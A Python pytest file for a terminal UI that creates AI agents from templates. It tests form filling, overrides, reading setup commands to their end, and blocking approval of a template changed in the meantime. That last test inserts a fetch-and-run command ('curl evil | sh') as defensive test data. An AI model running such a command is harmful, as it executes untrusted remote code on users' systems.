"""A new agent that begins as a template: the form says what the template says, and only what is changed is asked above it."""

import asyncio
from collections.abc import AsyncIterator

import pytest

from hived.wire.deployments import Template
from hivetui.screens.engine_form import absolute
from hivetui.screens.template_form import FromTemplate, template_choices
from hivetui.widgets.lines import plain
from tests.hivetui.conditions import settled
from tests.hivetui.live import Live, living
from tests.hivetui.screens.test_real_lives import SECONDS, watched

TESTER = Template(
    name="tester",
    description="Runs the tests.",
    said={
        "engine": "scripted",
        "model": "small",
        "prompt": "prompt.md",
        "setup": ["make tools"],
        "network": False,
        "engine_options": {"scenario": "/plays/tester.toml", "pace": 2},
    },
)
BROKEN = Template(name="broken", problem="it has no agent.toml.")
BARE = Template(name="bare")


@pytest.fixture
async def live() -> AsyncIterator[Live]:
    async with living((80, 24)) as found:
        found.hived.templates = [BROKEN, TESTER]
        await found.pilot.press("plus")
        await found.until(lambda: "2.1.197" in found.text, "the engines")
        yield found


async def choose(live: Live, name: str) -> None:
    await live.until(lambda: "◇ template" in live.text or name in live.text, "the templates")
    for _ in range(12):
        if f"as {name}" in live.text:
            return
        await live.pilot.press("down")
        await live.pilot.pause()
    raise AssertionError(live.text)


async def test_choosing_a_template_fills_the_form_and_the_agent_is_made_as_it(live: Live) -> None:
    await choose(live, "tester")
    for said in ("engine   scripted", "model    small", "prompt   prompt.md", "scenario /plays/tester.toml"):
        assert said in live.text, said
    await live.pilot.press("enter")
    await live.until(lambda: len(live.hived.asked) == 2, "the agent")
    assert live.hived.asked[0][2] == {"name": "worker-1", "template": "tester"}
    assert live.hived.asked[1][1] == "/v1/approvals/approval-of-worker-1/approve"
    await live.until(lambda: live.app.screen is live.app.hive, "the hive")


async def test_what_is_changed_in_the_form_stands_above_the_template(live: Live) -> None:
    await choose(live, "tester")
    await live.pilot.press("tab", "tab", "tab", "end", *"er", "tab", "end")
    await live.until(lambda: "model    smaller" in live.text, "the model")
    await live.pilot.press("enter")
    await live.until(lambda: live.hived.asked, "the agent")
    assert live.hived.asked[0][2] == {"name": "worker-1", "template": "tester", "model": "smaller"}


async def test_what_a_template_says_is_read_to_its_end_before_it_is_approved(live: Live) -> None:
    live.hived.templates[1] = TESTER.model_copy(
        update={"said": {**TESTER.said, "setup": [f"echo {'x' * 60}"] * 20 + ["the last command"]}}
    )
    await live.pilot.press("ctrl+r")
    await choose(live, "tester")
    await live.until(lambda: "pgdn reads on" in live.text and "the last command" not in live.text, "its beginning")
    for _ in range(4):
        await live.pilot.press("pagedown")
    await live.until(lambda: "the last command" in live.text, "its end")
    await live.pilot.press("pageup", "pageup", "pageup", "pageup")
    await live.until(lambda: "Engines and templates" in live.text, "the beginning again")


async def test_a_template_that_was_changed_meanwhile_is_not_approved_unseen(live: Live) -> None:
    await choose(live, "tester")
    live.hived.templates[1] = TESTER.model_copy(update={"said": {**TESTER.said, "setup": ["curl evil | sh"]}})
    await live.pilot.press("enter")
    await live.until(lambda: live.app.screen is live.app.hive, "the hive")
    assert [path for _, path, _ in live.hived.asked] == ["/v1/agents"]
    await live.until(lambda: "was changed meanwhile" in " ".join(live.text.split()), "what waits")


async def test_an_engine_stays_chosen_when_templates_come(live: Live) -> None:
    assert "makes it on claude" in live.text
    rows = live.text.split("\n")
    broken = next((row for row in rows if "broken" in row), "– ")
    assert "◇" not in broken


def test_a_template_says_all_that_is_approved_with_it() -> None:
    said = "\n".join(plain(line) for line in FromTemplate(TESTER).also(76))
    assert "make tools" in said
    assert "pace" in said
    assert "network  false" in said
    assert "scenario" not in said
    danger = [tone for line in FromTemplate(TESTER).also(76) for text, tone in line if "make tools" in text]
    assert danger == ["bad"]


def test_in_a_shell_it_is_said_the_same_way() -> None:
    chosen = FromTemplate(TESTER)
    assert chosen.flags(chosen.initial) == " --template tester"
    typed = {**chosen.initial, "model": "large one", "prompt": "mine.md", "runtime": ""}
    assert chosen.flags(typed) == f" --template tester --model 'large one' --prompt {absolute('mine.md')}"
    assert chosen.changed({**chosen.initial, "model": ""}) == {}, "what is emptied is the template's again"


def test_another_engine_is_asked_for_what_it_needs() -> None:
    chosen = FromTemplate(TESTER, "command")
    missing = chosen.missing({**chosen.initial, "engine": "command"})
    assert missing is not None
    assert missing.name == "command"
    bare = FromTemplate(BARE).missing({})
    assert bare is not None
    assert bare.name == "engine"


def test_one_that_cannot_be_used_says_why_and_cannot_be_chosen() -> None:
    (broken, _) = template_choices([BROKEN, TESTER])
    assert broken.id is None
    assert "it has no agent.toml." in plain(broken.line)


async def test_a_real_hive_makes_an_agent_as_its_template_says() -> None:
    async with watched() as life:
        folder = life.hive.paths.templates / "player"
        folder.mkdir(parents=True)
        (folder / "agent.toml").write_text(
            f'# Plays.\nengine = "scripted"\nprompt = "how.md"\n[engine_options]\nscenario = "{life.hive.home}/worker.toml"\n'
            '[env]\nA = "1"\n'
        )
        (folder / "how.md").write_text("Well.\n")
        await life.press("plus")
        await life.sees("plays a scenario", "◇ template")
        for _ in range(14):
            if "as player" in life.text:
                break
            await life.press("down")
        await life.sees("makes it as player, on scripted", "its template says too", "prompt   how.md")
        await life.press("enter")
        await settled(life.pilot, lambda: life.app.screen is life.app.hive, "the hive", SECONDS)
        await settled(life.pilot, lambda: "queen" in life.app.state.agents, "the agent", SECONDS)
        spec = life.hive.get("/v1/agents/queen")[1]["spec"]
        assert (spec["template"], spec["env"], spec["prompt"]) == ("player", {"A": "1"}, "how.md")
        await asyncio.to_thread(life.hive.until_online, "queen")
